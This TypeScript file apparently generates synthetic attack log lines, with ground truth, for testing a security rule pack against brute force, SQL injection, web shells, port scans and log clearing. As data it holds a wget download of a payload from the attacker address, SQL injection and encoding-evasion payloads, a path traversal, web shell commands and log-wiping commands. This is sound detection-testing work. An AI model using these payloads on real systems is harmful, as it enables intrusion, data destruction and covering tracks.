/**
 * Injected attacks with their ground truth: single-stage (password spraying, port scan, sudo abuse, RDP/SMB 4625
 * bursts, PowerShell cradles) and multi-stage (SSH brute force then success; web scan -> SQL injection -> web shell;
 * new admin then log clearing, on Linux and Windows). Each attack comes from its own address (documentation-free
 * public space, never one the background uses at the same time) against one host.
 */
import { winBurst, winCradle, winNewAdmin } from './attacks-windows.js';
import { iptablesDrop, nginx, PRI, syslog } from './lines.js';
import { type Agency, type AttackLines, type Host, Rng, type SimEvent } from './model.js';

/** The kinds of attack, in the order the scheduler cycles through them. */
export const ATTACK_KINDS = [
  'ssh_brute_force_success',
  'ssh_password_spraying',
  'web_scan_sqli_webshell',
  'sqli_stacked_encoded',
  'linux_new_admin_log_clearing',
  'sudo_abuse',
  'port_scan',
  'win_logon_failure_burst',
  'win_powershell_cradle',
  'win_new_admin_log_clearing',
] as const;
export type AttackKind = (typeof ATTACK_KINDS)[number];

/**
 * The shipped rules that must raise each kind (ground truth for "the pack covers it"). An attack counts as raised
 * when any alert is attributed to it; `expected` lists what the pack should raise for the per-attack detail.
 */
export const EXPECTED: Record<AttackKind, string[]> = {
  ssh_brute_force_success: [
    'canhgac_sshd_brute_force',
    'canhgac_sshd_brute_force_source',
    'canhgac_sshd_brute_force_then_success',
  ],
  ssh_password_spraying: ['canhgac_sshd_password_spraying'],
  web_scan_sqli_webshell: [
    'canhgac_web_scan',
    'canhgac_web_sql_injection',
    'canhgac_web_shell',
    'canhgac_web_exploitation_chain',
  ],
  sqli_stacked_encoded: ['canhgac_web_sql_injection'],
  linux_new_admin_log_clearing: [
    'canhgac_linux_new_admin_account',
    'canhgac_linux_log_clearing',
    'canhgac_linux_new_admin_then_log_clearing',
  ],
  sudo_abuse: ['canhgac_sudo_not_in_sudoers', 'canhgac_sudo_su_failures_repeated'],
  port_scan: ['canhgac_firewall_port_scan'],
  win_logon_failure_burst: ['canhgac_win_rdp_brute_force'],
  win_powershell_cradle: ['canhgac_win_powershell_download_cradle'],
  win_new_admin_log_clearing: [
    'canhgac_win_new_local_admin',
    'canhgac_win_log_cleared',
    'canhgac_win_new_admin_then_log_cleared',
  ],
};

/** One injected attack, as the simulator's ground truth. */
export interface Attack {
  index: number;
  kind: AttackKind;
  agencyId: string;
  host: string;
  attacker: string;
  /** Strings found in the attack's own lines only (its address, the accounts it makes or uses). */
  indicators: string[];
  start: number;
  end: number;
  events: number;
}

type Out = AttackLines;

const SQLMAP_UA = 'sqlmap/1.8.11#stable (https://sqlmap.org)';
const NIKTO_UA = 'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)';
const BROWSER =
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36';

function sshd(out: Out, t: number, h: string, pid: number, msg: string): void {
  out.push({ t, line: syslog(t, PRI.authprivInfo, h, 'sshd', pid, msg), transport: 'tcp' });
}
function sys(
  out: Out,
  t: number,
  h: string,
  app: string,
  pid: number | null,
  msg: string,
  pri: number = PRI.authprivNotice,
): void {
  out.push({ t, line: syslog(t, pri, h, app, pid, msg), transport: 'tcp' });
}

function sshBruteForceSuccess(r: Rng, h: Host, ip: string, t: number, out: Out): void {
  const user = r.pick(['root', 'root', 'admin']);
  const n = r.int(25, 60);
  let pid = r.int(50000, 60000);
  for (let k = 0; k < n; k++) {
    const p = r.int(32768, 60999);
    sys(
      out,
      t,
      h.name,
      'sshd',
      pid,
      `pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=${ip}  user=${user}`,
    );
    sshd(out, t + 1500, h.name, pid, `Failed password for ${user} from ${ip} port ${p} ssh2`);
    t += r.int(2000, 7000);
    if (k % 6 === 5) pid++;
  }
  const p = r.int(32768, 60999);
  sshd(out, t, h.name, pid + 1, `Accepted password for ${user} from ${ip} port ${p} ssh2`);
  sshd(out, t, h.name, pid + 1, `pam_unix(sshd:session): session opened for user ${user}(uid=0) by (uid=0)`);
  sys(
    out,
    t + 40_000,
    h.name,
    'sudo',
    null,
    `   ${user} : TTY=pts/1 ; PWD=/root ; USER=root ; COMMAND=/usr/bin/wget -q http://${ip}/x86_64 -O /tmp/.x`,
  );
}

function sshSpraying(r: Rng, h: Host, ip: string, t: number, out: Out): void {
  const users = [
    'admin',
    'quantri',
    'ketoan',
    'vanthu',
    'tiepnhan',
    'motcua',
    'webadmin',
    'backup',
    'dev',
    'tester',
    'hoso',
    'canbo',
    'support',
    'oracle',
  ];
  const n = r.int(8, users.length);
  const pid = r.int(50000, 60000);
  for (let k = 0; k < n; k++) {
    const u = users[k]!;
    const p = r.int(32768, 60999);
    sshd(out, t, h.name, pid + k, `Invalid user ${u} from ${ip} port ${p}`);
    sshd(out, t + 2000, h.name, pid + k, `Failed password for invalid user ${u} from ${ip} port ${p} ssh2`);
    sshd(out, t + 2500, h.name, pid + k, `Connection closed by invalid user ${u} ${ip} port ${p} [preauth]`);
    t += r.int(15_000, 40_000);
  }
}

const SCAN_PATHS = [
  '/admin/',
  '/backup/',
  '/config.php.bak',
  '/db.sql',
  '/phpinfo.php',
  '/test/',
  '/upload/',
  '/uploads/',
  '/old/',
  '/.svn/entries',
  '/cgi-bin/test.cgi',
  '/server-status',
  '/web.config',
  '/install/',
  '/include/',
  '/tmp/',
  '/api/',
  '/login.php',
  '/admin/login.php',
  '/manager/html',
];
const SQLI = [
  "1' AND 1=1-- -",
  "1' AND 1=2-- -",
  '1 AND 3412=3412',
  "1' ORDER BY 1-- -",
  "1' ORDER BY 10-- -",
  '1 UNION ALL SELECT NULL,NULL,NULL-- -',
  "1' UNION ALL SELECT NULL,CONCAT(0x7171,user(),0x7171),NULL-- -",
  "1' AND SLEEP(5)-- -",
  '1 AND (SELECT 5 FROM (SELECT(SLEEP(5)))a)',
  "1' AND EXTRACTVALUE(1,CONCAT(0x5c,version()))-- -",
  "1' UNION SELECT table_name,2,3 FROM information_schema.tables-- -",
];
const enc = (s: string) => encodeURIComponent(s).replace(/%20/g, '%20');

function webChain(r: Rng, h: Host, ip: string, t: number, out: Out): void {
  const web = (tt: number, m: string, uri: string, st: number, ua: string) =>
    out.push({ t: tt, line: nginx(tt, h.name, ip, m, uri, st, r.int(150, 9000), ua), transport: 'tcp' });
  // 1. Scan: Nikto-like, mostly 404, a few traversal probes.
  const scans = r.int(150, 400);
  for (let k = 0; k < scans; k++) {
    const path =
      k % 40 === 7
        ? '/index.php?page=../../../../etc/passwd'
        : `${r.pick(SCAN_PATHS)}${k % 3 ? '' : `?${r.int(1, 99)}`}`;
    web(t, 'GET', path, r.chance(0.9) ? 404 : 403, NIKTO_UA);
    t += r.int(200, 900);
  }
  t += r.int(60_000, 600_000);
  // 2. SQL injection on the document search.
  const sq = r.int(80, 250);
  for (let k = 0; k < sq; k++) {
    web(t, 'GET', `/van-ban/chi-tiet.php?id=${enc(SQLI[k % SQLI.length]!)}`, r.chance(0.8) ? 200 : 500, SQLMAP_UA);
    t += r.int(300, 2500);
  }
  t += r.int(120_000, 900_000);
  // 3. Web shell uploaded through the CMS, then used.
  web(t, 'POST', '/admin/upload.php', 200, BROWSER);
  t += r.int(5000, 30_000);
  for (const cmd of ['id', 'whoami', 'uname+-a', 'cat+/etc/passwd', 'ls+-la+/var/www']) {
    web(t, 'GET', `/uploads/2026/12/thumb.php?cmd=${cmd}`, 200, BROWSER);
    t += r.int(3000, 20_000);
  }
}

/** SQL injection spelled the ways the pack's first SQL injection rule missed (none matched it): stacked queries, other encodings and spacings. */
export const SQLI_MISSED_FORMS = [
  "1';DROP TABLE users--",
  '1%27%3BDROP%20TABLE%20users--',
  '1%27;%20DROP%20TABLE%20nguoi_dung;--',
  '1%20UNION%0ASELECT%20username,password%20FROM%20users',
  '1%20UnIoN%09SeLeCt%201,2,3',
  '1+UNION/*!50000SELECT*/+1,2,3',
  '1%20AND%20SLEEP%20(5)',
  '1%2527%2520OR%25201%253D1--',
  "1' OR 'a'='a",
  '1%22%20OR%20%221%22%3D%221',
  '1%20AND%20BENCHMARK%20(5000000,MD5(1))',
];

function sqliStacked(r: Rng, h: Host, ip: string, t: number, out: Out): void {
  const ua = r.pick([BROWSER, 'curl/8.5.0']);
  for (const form of SQLI_MISSED_FORMS) {
    const q = form.includes('%') ? form : form.replace(/ /g, '%20').replace(/'/g, '%27');
    out.push({
      t,
      line: nginx(
        t,
        h.name,
        ip,
        'GET',
        `/dichvucong/tra-cuu.php?mahoso=${q}`,
        r.chance(0.7) ? 200 : 500,
        r.int(300, 4000),
        ua,
      ),
      transport: 'tcp',
    });
    t += r.int(4000, 40_000);
  }
}

function linuxNewAdmin(r: Rng, h: Host, ip: string, t: number, out: Out, user: string): void {
  const pid = r.int(50000, 60000);
  sshd(out, t, h.name, pid, `Accepted password for ${user} from ${ip} port ${r.int(32768, 60999)} ssh2`);
  sshd(out, t, h.name, pid, `pam_unix(sshd:session): session opened for user ${user}(uid=1000) by (uid=0)`);
  const su = (tt: number, cmd: string) =>
    sys(out, tt, h.name, 'sudo', null, `   ${user} : TTY=pts/2 ; PWD=/home/${user} ; USER=root ; COMMAND=${cmd}`);
  t += r.int(30_000, 120_000);
  su(t, '/usr/sbin/useradd -m -s /bin/bash sysupdate');
  sys(out, t, h.name, 'useradd', pid + 10, 'new group: name=sysupdate, GID=1005', PRI.authprivInfo);
  sys(
    out,
    t,
    h.name,
    'useradd',
    pid + 10,
    'new user: name=sysupdate, UID=1005, GID=1005, home=/home/sysupdate, shell=/bin/bash, from=/dev/pts/2',
    PRI.authprivInfo,
  );
  t += r.int(10_000, 60_000);
  su(t, '/usr/sbin/usermod -aG sudo sysupdate');
  sys(out, t, h.name, 'usermod', pid + 11, "add 'sysupdate' to group 'sudo'", PRI.authprivInfo);
  sys(out, t, h.name, 'usermod', pid + 11, "add 'sysupdate' to shadow group 'sudo'", PRI.authprivInfo);
  t += r.int(60_000, 900_000);
  su(t, '/usr/bin/truncate -s 0 /var/log/auth.log');
  su(t + 5000, '/usr/bin/rm -f /root/.bash_history');
}

function sudoAbuse(r: Rng, h: Host, t: number, out: Out, user: string): void {
  for (let k = r.int(3, 5); k > 0; k--) {
    sys(
      out,
      t,
      h.name,
      'sudo',
      null,
      `pam_unix(sudo:auth): authentication failure; logname=${user} uid=1001 euid=0 tty=/dev/pts/1 ruser=${user} rhost=  user=${user}`,
    );
    sys(
      out,
      t + 9000,
      h.name,
      'sudo',
      null,
      `   ${user} : user NOT in sudoers ; TTY=pts/1 ; PWD=/home/${user} ; USER=root ; COMMAND=/bin/bash`,
      PRI.authprivAlert,
    );
    t += r.int(20_000, 60_000);
  }
  for (let k = r.int(3, 5); k > 0; k--) {
    sys(
      out,
      t,
      h.name,
      'su',
      r.int(4000, 9000),
      `pam_unix(su:auth): authentication failure; logname=${user} uid=1001 euid=0 tty=/dev/pts/1 ruser=${user} rhost=  user=root`,
    );
    sys(out, t + 2000, h.name, 'su', null, `FAILED SU (to root) ${user} on pts/1`);
    t += r.int(10_000, 40_000);
  }
}

function portScan(r: Rng, fw: Host, target: Host, ip: string, t: number, out: Out): void {
  const ports = r.int(200, 1000);
  let id = r.int(1, 60000);
  for (let k = 0; k < ports; k++) {
    id = (id + 1) % 65536;
    out.push({
      t,
      line: iptablesDrop(t, fw.name, ip, target.ip, 'TCP', 40000 + (k % 20000), 1 + ((k * 7) % 10000), id),
      transport: 'tcp',
    });
    t += r.int(20, 120);
  }
}

/**
 * Lays out `count` attacks, cycling through `kinds`, between 10 % and 85 % of the window [t0, t0 + span]: each
 * on a host of a random agency fit for its kind, never the same host twice in a row.
 */
export function planAttacks(
  rng: Rng,
  agencies: Agency[],
  t0: number,
  span: number,
  count: number,
  kinds: readonly AttackKind[] = ATTACK_KINDS,
): { attacks: Attack[]; events: SimEvent[] } {
  const attacks: Attack[] = [];
  const events: SimEvent[] = [];
  for (let i = 0; i < count; i++) {
    const kind = kinds[i % kinds.length]!;
    const ai = rng.int(0, agencies.length - 1);
    const a = agencies[ai]!;
    // A host of that kind ('app' also takes the database server).
    const of = (r: Rng, k: Host['kind']) =>
      r.pick(a.hosts.filter((h) => h.kind === k || (k === 'app' && h.kind === 'db')));
    const start0 = Math.round(t0 + span * (0.1 + (0.75 * (i + rng.next() * 0.8)) / count));
    const ip = `${rng.pick(['45.135', '185.220', '194.26', '91.92', '103.75', '5.188'])}.${rng.int(0, 255)}.${rng.int(1, 254)}`;
    // Generated from its own Rng, so that it can be generated again, moved earlier, with the same content.
    const seed = rng.int(1, 2 ** 30);
    const generate = (start: number) => {
      const sub = new Rng(seed);
      const out: Out = [];
      const indicators = [ip];
      let host: Host;
      switch (kind) {
        case 'ssh_brute_force_success':
          host = sub.pick(a.hosts.filter((h) => h.sshExposed));
          sshBruteForceSuccess(sub, host, ip, start, out);
          break;
        case 'ssh_password_spraying':
          host = sub.pick(a.hosts.filter((h) => h.sshExposed));
          sshSpraying(sub, host, ip, start, out);
          break;
        case 'web_scan_sqli_webshell':
          host = of(sub, 'web');
          webChain(sub, host, ip, start, out);
          break;
        case 'sqli_stacked_encoded':
          host = of(sub, 'web');
          sqliStacked(sub, host, ip, start, out);
          break;
        case 'linux_new_admin_log_clearing':
          host = of(sub, 'app');
          // The intruder's terminal (administrators' own sessions use pts/0).
          indicators.push('TTY=pts/2', 'sysupdate');
          linuxNewAdmin(sub, host, ip, start, out, sub.pick(a.admins));
          break;
        case 'sudo_abuse':
          host = of(sub, 'app');
          indicators.push(sub.pick(['ketoan', 'vanthu', 'thuctap', 'tiepnhan']));
          sudoAbuse(sub, host, start, out, indicators[1]!);
          break;
        case 'port_scan': {
          host = of(sub, 'firewall');
          portScan(sub, host, of(sub, 'web'), ip, start, out);
          break;
        }
        case 'win_logon_failure_burst':
          host = of(sub, 'windows');
          winBurst(sub, a, host, ip, start, out);
          break;
        case 'win_powershell_cradle':
          host = of(sub, 'windows');
          winCradle(sub, a, host, ip, start, out);
          break;
        case 'win_new_admin_log_clearing':
          host = of(sub, 'windows');
          // The intruder's logon session ties the three events together (SubjectLogonId).
          indicators.push(`0x${sub.int(0x100000, 0xffffff).toString(16)}`);
          winNewAdmin(sub, a, host, start, out, indicators[1]!);
          break;
      }
      return { out, indicators, host: host! };
    };
    // An attack that would run past 97 % of the window is moved earlier (short windows), never before 5 %.
    let g = generate(start0);
    const last = (o: Out) => o.reduce((m, e) => Math.max(m, e.t), 0);
    const shift = Math.min(last(g.out) - (t0 + span * 0.97), start0 - (t0 + span * 0.05));
    const start = shift > 0 ? start0 - shift : start0;
    if (shift > 0) g = generate(start);
    for (const e of g.out) events.push({ t: e.t, agency: ai, transport: e.transport, line: e.line, attack: i });
    const end = Math.max(start, last(g.out));
    attacks.push({
      index: i,
      kind,
      agencyId: a.id,
      host: g.host.name,
      attacker: ip,
      indicators: g.indicators,
      start,
      end,
      events: g.out.length,
    });
  }
  return { attacks, events };
}
